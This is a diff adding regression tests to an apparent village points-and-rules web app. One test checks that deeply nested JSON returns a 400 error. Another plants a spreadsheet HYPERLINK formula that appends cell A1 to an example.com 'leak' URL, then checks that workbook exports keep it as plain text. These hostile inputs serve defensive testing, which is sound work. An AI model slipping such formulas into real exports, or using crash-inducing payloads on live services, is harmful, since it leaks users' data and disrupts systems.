@@ -8,6 +8,7 @@ import re
 from datetime import timedelta
 from types import SimpleNamespace
 
+import openpyxl
 import pytest
 import zxingcpp
 from PIL import Image
@@ -25,9 +26,12 @@ from points.extensions import db, limiter
 from points.hygiene import services as hygiene_services
 from points.leaderboards import services as board_services
 from points.ledger.services import apply_rule
+from points.people.imports import export_register
 from points.people.models import CareTag
 from points.people.services import CARE_TAG_LABELS, add_resident
 from points.rules.models import RuleCategory
+from points.rules.queries import rule_book
+from points.rules.workbook import export_workbook
 from points.shop import services as shop_services
 from points.timeutil import local_today, utc_to_local, utcnow
 
@@ -537,3 +541,35 @@ def test_a_request_over_the_upload_limit_is_a_413_everywhere(app, world, monkeyp
         response = send(upload, bytes(100 * 1024), "photo.jpg" if upload.kind == "photo" else "花名册.xlsx")
         assert response.status_code == 413 and "太大" in said(response), upload.url
     assert stored(app) == files
+
+
+@pytest.mark.parametrize("path", ["/api/v1/tokens", "/api/v1/appeals", "/api/v1/checkins", "/api/v1/entries"])
+@pytest.mark.parametrize("depth", [1000, 100_000])
+def test_json_nested_too_deeply_is_bad_json_not_a_server_error(client, village, path, depth):
+    """ "[" * 1000 once answered 500 (a RecursionError in the JSON decoder), logged in or not."""
+    user = factories.gen_user(Role.VILLAGE_ADMIN, village.village)
+    token, _ = auth_services.issue_token(user, 1)
+    db.session.commit()
+    response = client.post(path, data="[" * depth + "]" * depth, content_type="application/json",
+                           headers={"Authorization": f"Bearer {token}"})
+    assert response.status_code == 400, response.get_data(as_text=True)
+    assert response.get_json()["error"]["code"] == "bad_request"
+
+
+FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"查看")'
+
+
+def _cells(data: bytes) -> list:
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
+
+
+def test_exported_workbooks_keep_text_that_looks_like_a_formula_as_text(village):
+    """A rule named like a formula came out of the rule book's export as a live formula; the register's export is
+    guarded the same way (an address typed by anyone who keeps the register)."""
+    factories.gen_rule(village.village, FORMULA, 5)
+    home = factories.gen_household(village.grids[0])
+    home.address = FORMULA
+    db.session.commit()
+    assert _cells(export_workbook(rule_book(village.village.id, local_today()))) == [(FORMULA, "s")]
+    assert _cells(export_register(village.village)) == [(FORMULA, "s")]
